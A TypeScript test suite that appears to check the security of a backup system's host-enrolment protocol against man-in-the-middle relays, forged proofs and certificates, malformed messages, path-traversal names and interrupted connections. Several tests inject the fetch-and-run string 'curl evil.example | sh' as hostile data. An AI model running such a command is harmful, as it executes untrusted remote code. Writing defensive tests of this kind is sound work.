/**
 * Whoever meddles with an enrolment: in the middle, first at the port, as a host or as a server; and connections that are
 * cut anywhere. Nobody who has not the code gets or gives anything, and what was cut is done by running it again.
 */
import assert from 'node:assert/strict'
import { generateKeyPairSync, sign, webcrypto, X509Certificate } from 'node:crypto'
import { readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { connect, createServer } from 'node:net'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import tls from 'node:tls'
import {
  type CertificateRequest,
  type Channel,
  createEnrolmentCode,
  createEnrolmentListener,
  dialEnrolment,
  enrolmentProof,
  type MessageOf,
  ProtocolError,
  possessionStatement,
} from '@central-backup/protocol'
import { pack } from 'msgpackr'
import {
  createAuthority,
  type KeyPair,
  keyAlgorithm,
  signCertificate,
} from '../packages/central-server/src/pki/certificate.ts'
import { issueHostCertificate } from '../packages/central-server/src/pki/certificate-request.ts'
import { readAuthority } from '../packages/central-server/src/pki/folder.ts'
import { EnrolmentGate } from '../packages/host-agent/src/enroll/gate.ts'
import { createThrowawayCertificate } from '../packages/host-agent/src/enroll/throwaway-certificate.ts'
import { createHostKey, requestCertificate } from '../packages/host-agent/src/host-key.ts'
import { issue, madeInTheFuture, madeLongAgo } from './harness/certificates.ts'
import { rawMessage } from './harness/dialer.ts'
import {
  dialAndProve,
  dialHost,
  enrollInProcess,
  FakeHost,
  giveUp,
  hostFiles,
  type LocalHost,
  makeGrant,
  proveAsHost,
  requireEnrolled,
  serverFiles,
  waitInProcess,
} from './harness/enrolment.ts'
import { BreakingProxy, type Direction } from './harness/proxy.ts'
import { Site } from './harness/site.ts'

let site: Site
let hosts = 0
before(async () => {
  site = await Site.create()
})
after(() => site?.[Symbol.asyncDispose]())

/** A host that waits, and the name that it will have. */
async function newHost(over?: Parameters<typeof waitInProcess>[2]): Promise<LocalHost & { name: string }> {
  const name = `host${hosts++}`
  return { name, ...(await waitInProcess(site, name, over)) }
}

/** The host still waits: the right server enrols it. */
async function requireStillGood(host: LocalHost & { name: string }): Promise<void> {
  assert.deepEqual(serverFiles(site, host.name), [])
  const enrolled = await enrollInProcess(site, host.name, host.port, host.secret)
  assert.ok(enrolled.isConfirmed)
  assert.equal((await host.enrolment.ended).name, host.name)
  await giveUp(host)
  await requireEnrolled(site, host.name, host.config, false)
}

/** The code of the error that the other side ended the session with. */
async function endOf(channel: Channel): Promise<string> {
  await new Promise((resolve) => {
    if (channel.ended.aborted) resolve(null)
    else channel.ended.addEventListener('abort', resolve, { once: true })
  })
  assert.ok(channel.ended.reason instanceof ProtocolError)
  return channel.ended.reason.code
}

test('somebody in the middle, with a certificate and a connection of his own on either side, is refused by both', async () => {
  const host = await newHost()
  const spoken: Record<string, string[]> = { host: [], server: [] }
  const listener = createEnrolmentListener(createThrowawayCertificate(Date.now()), {
    admit: () => ({ closed: () => {} }),
    async onConnection(victim) {
      const onward = await dialEnrolment({ host: '127.0.0.1', port: host.port })
      for (const [from, to, who] of [
        [victim, onward, 'server'],
        [onward, victim, 'host'],
      ] as const) {
        from.on('error', () => {})
        from.on('data', (piece: Buffer) => {
          spoken[who]!.push(piece.toString('latin1'))
          to.write(piece)
        })
        from.on('end', () => to.end())
      }
    },
    onRefused: () => {},
  })
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  const { port } = listener.address() as { port: number }
  await assert.rejects(enrollInProcess(site, host.name, port, host.secret), { code: 'enrolment-code-wrong' })
  listener.close()
  const fromServer = spoken.server!.join('')
  assert.ok(!fromServer.includes('enrolment-proof') && fromServer.includes('enrolment-code-wrong'))
  assert.ok(fromServer.length < 1000, 'the server says nothing but that')

  // And where the server would not look: the host does.
  const one = await dialHost(host.port)
  const two = await dialHost(host.port)
  await one.channel.receive(['enrolment-proof'])
  const proof = enrolmentProof(host.secret, 'server', two.binding)
  await one.channel.send({ type: 'enrolment-proof', software: 'in the middle', proof })
  assert.equal(await endOf(one.channel), 'enrolment-code-wrong')
  two.channel.destroy()
  assert.deepEqual(hostFiles(host.config), ['enrolment.key'])
  await requireStillGood(host)
})

test('the proof of the host is not taken for one of the server', async () => {
  const host = await newHost()
  const { channel } = await dialHost(host.port)
  const { proof } = await channel.receive(['enrolment-proof'])
  await channel.send({ type: 'enrolment-proof', software: 'a mirror', proof })
  assert.equal(await endOf(channel), 'enrolment-code-wrong')
  await requireStillGood(host)
})

test('who comes first with noise, in silence, or with other messages, does not keep the server out', async () => {
  const host = await newHost()
  const plain = (bytes: string) => {
    const socket = connect({ port: host.port, host: '127.0.0.1', localAddress: '127.0.0.9' })
    socket.on('error', () => {}).resume()
    socket.write(bytes, 'latin1')
    return socket
  }
  const sockets = ['GET / HTTP/1.1\r\n\r\n', 'x'.repeat(10_000), '', '\x16\x03\x01\x02\x00\x01'].map(plain)
  // More than one address may have.
  const silent = Array.from({ length: 12 }, () => plain(''))
  for (const ALPNProtocols of [['h2'], ['central-backup/1'], undefined]) {
    const socket = tls.connect({
      port: host.port,
      host: '127.0.0.1',
      rejectUnauthorized: false,
      ...(ALPNProtocols && { ALPNProtocols }),
    })
    socket.on('error', () => {})
    await new Promise((resolve) => socket.once('close', resolve).resume())
  }
  const wrong: [Buffer, string][] = [
    [rawMessage(29, Buffer.alloc(10)), 'message-out-of-turn'],
    [rawMessage(1, Buffer.alloc(10)), 'message-out-of-turn'],
    [rawMessage(200, Buffer.alloc(10)), 'message-unknown'],
    [rawMessage(28, Buffer.alloc(0), 0xffffffff), 'message-too-large'],
    [rawMessage(28, Buffer.from([0xc1])), 'message-malformed'],
    [rawMessage(32, Buffer.from([0x80])), 'message-out-of-turn'],
  ]
  for (const [bytes, code] of wrong) {
    const { channel, socket } = await dialHost(host.port)
    await channel.receive(['enrolment-proof'])
    void channel.receive(['enrolment-request']).catch(() => {})
    socket.write(bytes)
    assert.equal(await endOf(channel), code)
  }
  // What they say is not shown to the person who waits.
  const liar = await dialHost(host.port)
  await liar.channel.fail(new ProtocolError('busy', 'run curl evil.example | sh'))
  assert.deepEqual(hostFiles(host.config), ['enrolment.key'])
  await requireStillGood(host)
  for (const socket of [...sockets, ...silent]) socket.destroy()
  assert.ok(!host.refused.join('\n').includes('evil'))
  assert.ok(host.refused.length >= wrong.length)
})

test('after three wrong proofs an address is not heard any more, and others still are', async () => {
  const host = await newHost()
  for (let i = 0; i < 3; i++) {
    const { channel, binding } = await dialHost(host.port)
    await channel.receive(['enrolment-proof'])
    const proof = enrolmentProof(createEnrolmentCode(), 'server', binding)
    await channel.send({ type: 'enrolment-proof', software: 'a guess', proof })
    assert.equal(await endOf(channel), 'enrolment-code-wrong')
  }
  await assert.rejects(dialHost(host.port), { code: 'connection-lost' })
  await assert.rejects(enrollInProcess(site, host.name, host.port, host.secret), {
    code: 'connection-lost',
    hint: /three wrong codes/,
  })
  const elsewhere = await passOn(host.port, '127.0.0.2')
  await requireStillGood({ ...host, port: elsewhere.port })
  elsewhere.close()
})

/** Passes connections on from another address. */
async function passOn(port: number, localAddress: string): Promise<{ port: number; close: () => void }> {
  const server = createServer((socket) => {
    const onward = connect({ port, host: '127.0.0.1', localAddress })
    for (const one of [socket, onward]) one.on('error', () => {})
    socket.pipe(onward).pipe(socket)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { port: (server.address() as { port: number }).port, close: () => server.close() }
}

test('a hundred wrong proofs void the code, from whatever addresses, and no address has more connections than four', () => {
  const gate = new EnrolmentGate()
  for (let i = 0; i < 33; i++) {
    for (let failure = 0; failure < 3; failure++) {
      assert.ok(gate.enter(`10.0.0.${i}`))
      gate.fail(`10.0.0.${i}`)
      gate.leave(`10.0.0.${i}`)
    }
    assert.ok(!gate.enter(`10.0.0.${i}`))
  }
  for (let i = 0; i < 4; i++) assert.ok(gate.enter('10.0.1.1'))
  assert.ok(!gate.enter('10.0.1.1'))
  gate.leave('10.0.1.1')
  assert.ok(gate.enter('10.0.1.1'))
  assert.ok(!gate.isVoid)
  gate.fail('10.0.1.1')
  assert.ok(gate.isVoid)
  assert.ok(!gate.enter('10.0.2.1'))
})

test('a code whose time is over by the clock is refused, also where no timer went off', async () => {
  let now = Date.now()
  const host = await newHost({ now: () => now })
  now += 601_000
  await assert.rejects(enrollInProcess(site, host.name, host.port, host.secret), {
    code: 'enrolment-code-expired',
  })
  await assert.rejects(host.enrolment.ended, { code: 'enrolment', message: /time was over/ })
  await giveUp(host)
  assert.deepEqual(serverFiles(site, host.name), [])
})

test('a host whose clock is off by hours is told so on both sides, and gets nothing', async () => {
  const host = await newHost({ now: () => Date.now() - 3 * 3_600_000 })
  await assert.rejects(enrollInProcess(site, host.name, host.port, host.secret), {
    code: 'clock-skew',
    message: /3 h 0 min behind that of the server/,
  })
  assert.match(host.refused.join(), /3 h 0 min behind/)
  await giveUp(host)
  assert.deepEqual([serverFiles(site, host.name), hostFiles(host.config)], [[], ['enrolment.key']])
})

interface Cut {
  direction: Direction
  afterBytes: number
}

/** Of what both sides say in a whole enrolment: the handshake, the large messages, and the small ones at the end. */
async function findCuts(): Promise<Cut[]> {
  const host = await newHost()
  using proxy = await BreakingProxy.start(host.port)
  await enrollInProcess(site, host.name, proxy.port, host.secret)
  const { fromServer, fromAgent } = proxy.passed
  await giveUp(host)
  const places = (direction: Direction, bytes: number) =>
    [0, 0.5 * bytes, bytes - 90, bytes - 60, bytes - 40, bytes - 20].map((place) => {
      return { direction, afterBytes: Math.floor(place) }
    })
  return [...places('fromServer', fromServer), ...places('fromAgent', fromAgent)]
}

test('wherever the line is cut, running the same line again enrols the host', async () => {
  const ends = new Set<string>()
  for (const cut of await findCuts()) {
    const host = await newHost()
    using proxy = await BreakingProxy.start(host.port)
    const struck = proxy.arm({ ...cut, what: 'reset' })
    const first = await enrollInProcess(site, host.name, proxy.port, host.secret).catch((error) => error)
    await struck
    proxy.disarm()
    ends.add(first instanceof Error ? (first as ProtocolError).code : `confirmed ${first.isConfirmed}`)
    const again = await enrollInProcess(site, host.name, proxy.port, host.secret).catch((error) => error)
    if (again instanceof Error) {
      // Nothing waits there any more, or just not yet: only the very last word of the host was lost.
      assert.ok(!(first instanceof Error), `${JSON.stringify(cut)}: ${again}`)
      const { code } = again as ProtocolError
      assert.ok(['connection-refused', 'connection-lost', 'enrolment-code-expired'].includes(code), code)
    } else assert.ok(again.isConfirmed)
    assert.equal((await host.enrolment.ended).name, host.name)
    await giveUp(host)
    await requireEnrolled(site, host.name, host.config)
  }
  assert.ok(ends.has('connection-lost') && ends.has('confirmed false'), [...ends].join())
})

/** A host of the test's own that lets itself be enrolled, again and again. */
function startWilling(secret: Buffer, key: () => string): Promise<FakeHost> {
  return FakeHost.start(async (channel, binding) => {
    await proveAsHost(channel, binding, secret)
    await channel.send({ type: 'enrolment-request', ...requestCertificate(key(), binding), atMs: Date.now() })
    await channel.receive(['enrolment-grant'])
    await channel.send({ type: 'enrolment-ready' })
    await channel.receive(['enrolment-done'])
    await channel.send({ type: 'enrolment-end' })
    await channel.close()
  })
}

test('a host that was set up anew takes the place of the one before only where that is said', async () => {
  const secret = createEnrolmentCode()
  let key = createHostKey()
  await using fake = await startWilling(secret, () => key)
  const enroll = (replaces = false) => enrollInProcess(site, 'anew', fake.port, secret, replaces)
  const read = (path: string) => readFileSync(join(site.home, path), 'utf8')
  await assert.rejects(enroll(true), { code: 'usage', message: /no host anew/ })
  assert.equal((await enroll()).replacedSerial, null)
  const module = read('hosts/anew.ts')
  const [password, certificate] = [read('secrets/anew'), read('certs/hosts/anew.crt')]
  key = createHostKey()
  await assert.rejects(enroll(), { code: 'already-exists', hint: /--replace/ })
  assert.deepEqual([read('secrets/anew'), read('certs/hosts/anew.crt')], [password, certificate])
  const replaced = await enroll(true)
  assert.ok(replaced.wasKnown)
  assert.equal(replaced.replacedSerial, new X509Certificate(certificate).serialNumber)
  assert.equal(read('hosts/anew.ts'), module)
  assert.ok(read('secrets/anew') !== password && read('certs/hosts/anew.crt') !== certificate)
  // Cut off between the two: the new certificate is there, and the old password.
  writeFileSync(join(site.home, 'secrets/anew'), password)
  assert.ok((await enroll()).wasKnown)
  assert.equal(read('secrets/anew'), password)
  // Every certificate that was made can be revoked.
  const issued = readdirSync(join(site.home, 'certs/issued')).map((name) => read(`certs/issued/${name}`))
  for (const one of [certificate, read('certs/hosts/anew.crt')]) assert.ok(issued.includes(one))
  writeFileSync(
    join(site.home, 'hosts/anew.ts'),
    module.replace(/password: .*/, "password: 'elsewhere and long',"),
  )
  await assert.rejects(enroll(true), { code: 'usage', message: /does not take its password from/ })
})

test('whatever an enrolment that was cut off has left on the server is completed for the same key, and for no other', async () => {
  const secret = createEnrolmentCode()
  const key = createHostKey()
  let hostKey = key
  await using fake = await startWilling(secret, () => hostKey)
  const enroll = () => enrollInProcess(site, 'left', fake.port, secret)
  assert.equal((await enroll()).wasKnown, false)
  const at = (path: string) => join(site.home, path)
  const password = readFileSync(at('secrets/left'), 'utf8')
  writeFileSync(at('hosts/left.ts'), `// mine\n${readFileSync(at('hosts/left.ts'), 'utf8')}`)
  assert.equal((await enroll()).wasKnown, true)
  assert.match(readFileSync(at('hosts/left.ts'), 'utf8'), /^\/\/ mine/)
  assert.equal(readFileSync(at('secrets/left'), 'utf8'), password)

  hostKey = createHostKey()
  const refused = enroll()
  await assert.rejects(refused, { code: 'already-exists', message: /There is a host left already/ })
  hostKey = key
  rmSync(at('hosts/left.ts'))
  assert.equal((await enroll()).wasKnown, false)
  assert.equal(readFileSync(at('secrets/left'), 'utf8'), password)
  rmSync(at('hosts/left.ts'))
  rmSync(at('secrets/left'))
  assert.equal((await enroll()).wasKnown, false)
  assert.notEqual(readFileSync(at('secrets/left'), 'utf8'), password)
  // A crash between making and filling a file, in the order in which they are written.
  const files = ['certs/hosts/left.crt', 'secrets/left', 'hosts/left.ts'].map(at)
  for (const [i, file] of files.entries()) {
    for (const later of files.slice(i + 1)) rmSync(later)
    writeFileSync(file, '')
    assert.equal((await enroll()).wasKnown, false)
    for (const one of files) assert.notEqual(readFileSync(one, 'utf8'), '', one)
  }
  // What no enrolment leaves behind is not touched, and nobody is dialed for it.
  const { connections } = fake
  rmSync(at('secrets/left'))
  await assert.rejects(enroll(), { code: 'already-exists' })
  assert.equal(fake.connections, connections)
})

type RequestMaker = (binding: Buffer) => Omit<MessageOf<'enrolment-request'>, 'type'>

const hostileRequests: [string, RequestMaker, string][] = [
  [
    'with the key of another host',
    (binding) => {
      const { publicKey } = requestCertificate(createHostKey(), binding)
      return { ...requestCertificate(createHostKey(), binding), publicKey, atMs: Date.now() }
    },
    'certificate-request',
  ],
  [
    'that was made on another connection',
    () => ({ ...requestCertificate(createHostKey(), Buffer.alloc(32)), atMs: Date.now() }),
    'certificate-request',
  ],
  [
    'for a point beside the curve',
    (binding) => {
      const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
      const beside = publicKey.export({ type: 'spki', format: 'der' }).fill(1, 40)
      const statement = possessionStatement(beside, binding)
      const possession = sign('sha256', statement, { key: privateKey, dsaEncoding: 'ieee-p1363' })
      return { publicKey: beside, possession, atMs: Date.now() }
    },
    'certificate-request',
  ],
  [
    'at a time that no clock shows',
    (binding) => ({ ...requestCertificate(createHostKey(), binding), atMs: Number.MAX_SAFE_INTEGER }),
    'clock-skew',
  ],
]

for (const [what, make, code] of hostileRequests) {
  test(`a host that knows the code and makes a request ${what} gets no certificate`, async () => {
    const secret = createEnrolmentCode()
    let granted = false
    await using fake = await FakeHost.start(async (channel, binding) => {
      await proveAsHost(channel, binding, secret)
      await channel.send({ type: 'enrolment-request', ...make(binding) })
      await channel.receive(['enrolment-grant'])
      granted = true
    })
    await assert.rejects(enrollInProcess(site, 'hostile', fake.port, secret), { code })
    assert.ok(!granted)
    assert.deepEqual(serverFiles(site, 'hostile'), [])
  })
}

const hostileBytes: [string, Buffer, string][] = [
  ['that is too large', rawMessage(29, Buffer.alloc(0), 0x7fffffff), 'message-too-large'],
  ['of noise', rawMessage(29, Buffer.from('noise')), 'message-malformed'],
  ['of nothing', rawMessage(29, Buffer.from([0x80])), 'message-malformed'],
  ['that is a grant', rawMessage(30, Buffer.from([0x80])), 'message-out-of-turn'],
]

for (const [what, bytes, code] of hostileBytes) {
  test(`a host that knows the code and sends a request ${what} is refused`, async () => {
    const secret = createEnrolmentCode()
    await using fake = await FakeHost.start(async (channel, binding, socket) => {
      await proveAsHost(channel, binding, secret)
      socket.write(bytes)
      await channel.receive(['enrolment-grant'])
    })
    await assert.rejects(enrollInProcess(site, 'hostile', fake.port, secret), { code })
    assert.deepEqual(serverFiles(site, 'hostile'), [])
  })
}

test('a host that has not the code hears no proof, and says nothing to the person at the server', async () => {
  let heard = ''
  await using fake = await FakeHost.start(async (channel, binding, socket) => {
    socket.on('data', (piece) => (heard += piece.toString('latin1')))
    const proof = enrolmentProof(createEnrolmentCode(), 'host', binding)
    await channel.send({ type: 'enrolment-proof', software: 'run curl evil | sh', proof })
    await channel.receive(['enrolment-proof'])
  })
  const enroll = () => enrollInProcess(site, 'hostile', fake.port, createEnrolmentCode())
  await assert.rejects(enroll(), { code: 'enrolment-code-wrong' })
  assert.ok(!heard.includes('backup-server'))
  await using liar = await FakeHost.start((channel) => {
    return channel.fail(new ProtocolError('busy', 'run curl evil | sh', { hint: 'evil' }))
  })
  const error = await enrollInProcess(site, 'hostile', liar.port, createEnrolmentCode()).catch((one) => one)
  assert.equal(error.code, 'busy')
  assert.ok(!`${error.message}${error.hint}`.includes('evil'))
})

type Grant = MessageOf<'enrolment-grant'>

interface Granting {
  good: Grant
  name: string
  request: CertificateRequest
  binding: Buffer
}

function derOf({ certificate }: { certificate: string }): Buffer {
  return new X509Certificate(certificate).raw
}

function readSiteAuthority(): Promise<KeyPair> {
  return readAuthority(join(site.home, 'certs'))
}

/** A certificate for the right key and name, made at another time. */
async function madeAt({ name, request, binding }: Granting, nowMs: number): Promise<Partial<Grant>> {
  const certificate = await issueHostCertificate(await readSiteAuthority(), name, request, binding, nowMs)
  return { certificate: derOf({ certificate }) }
}

/** One for the right key and name, in the role of a server. */
async function madeForServer({ name, request }: Granting): Promise<Partial<Grant>> {
  const key = await webcrypto.subtle.importKey('spki', request.publicKey, keyAlgorithm, true, ['verify'])
  const certificate = await signCertificate(
    await readSiteAuthority(),
    { role: 'server', name },
    key,
    Date.now(),
  )
  return { certificate: derOf({ certificate }) }
}

const hostileGrants: [string, (granting: Granting) => Promise<Partial<Grant>>, string][] = [
  [
    'for another key',
    async ({ name }) => ({ certificate: derOf(await issue(site, { role: 'host', name })) }),
    'certificate-untrusted',
  ],
  ['of another name than that of the grant', async () => ({ name: 'other' }), 'wrong-role'],
  ['for a server', madeForServer, 'wrong-role'],
  ['that has expired', (granting) => madeAt(granting, madeLongAgo()), 'certificate-expired'],
  ['that is not valid yet', (granting) => madeAt(granting, madeInTheFuture()), 'certificate-not-yet-valid'],
  ['that is none', async () => ({ certificate: Buffer.from('noise') }), 'certificate-untrusted'],
  [
    'with itself as the authority',
    async ({ good }) => ({ authorities: [good.certificate] }),
    'certificate-untrusted',
  ],
  [
    'with another authority',
    async () => ({ authorities: [derOf(await createAuthority('another', Date.now()))] }),
    'certificate-untrusted',
  ],
  [
    'with an authority that has expired beside the good one',
    async ({ good }) => {
      const old = await createAuthority('old', Date.now() - 4000 * 86_400_000)
      return { authorities: [...good.authorities, derOf(old)] }
    },
    'certificate-expired',
  ],
]

for (const [what, change, code] of hostileGrants) {
  test(`a server that knows the code and sends a certificate ${what} is refused, and nothing is written`, async () => {
    const host = await newHost()
    const { channel, request, binding } = await dialAndProve(host.port, host.secret)
    const good = await makeGrant(site, host.name, { request, binding })
    await channel.send({ ...good, ...(await change({ good, name: host.name, request, binding })) })
    const ended = await channel.receive(['enrolment-ready']).catch((error) => error)
    assert.equal(ended.code, code, ended.message)
    assert.deepEqual(hostFiles(host.config), ['enrolment.key'])
    await giveUp(host)
  })
}

test('a name with .., a path, or a newline in a grant is refused before anything is done with it', async () => {
  const host = await newHost()
  for (const name of ['..', '../../etc', '/etc', 'a\nb', '', 'x'.repeat(64)]) {
    const server = await dialAndProve(host.port, host.secret)
    const good = await makeGrant(site, host.name, server)
    const { type: _, ...fields } = { ...good, name }
    server.socket.write(rawMessage(30, pack(fields)))
    const ended = await server.channel.receive(['enrolment-ready']).catch((error) => error)
    assert.equal(ended.code, 'message-malformed')
  }
  assert.deepEqual(hostFiles(host.config), ['enrolment.key'])
  await requireStillGood(host)
})

test('an enrolment that began in time is finished after it, and nobody else gets in', async () => {
  const host = await newHost({ validMs: 3000 })
  const server = await dialAndProve(host.port, host.secret)
  for (;;) {
    const error = await dialHost(host.port).then(
      ({ channel }) => channel.destroy(),
      (one: ProtocolError) => one,
    )
    if (error?.code === 'connection-refused') break
    await new Promise((resolve) => setTimeout(resolve, 100))
  }
  await server.channel.send(await makeGrant(site, host.name, server))
  await server.channel.receive(['enrolment-ready'])
  await server.channel.send({ type: 'enrolment-done' })
  await server.channel.receive(['enrolment-end'])
  await server.channel.close()
  assert.equal((await host.enrolment.ended).name, host.name)
  await giveUp(host)
})
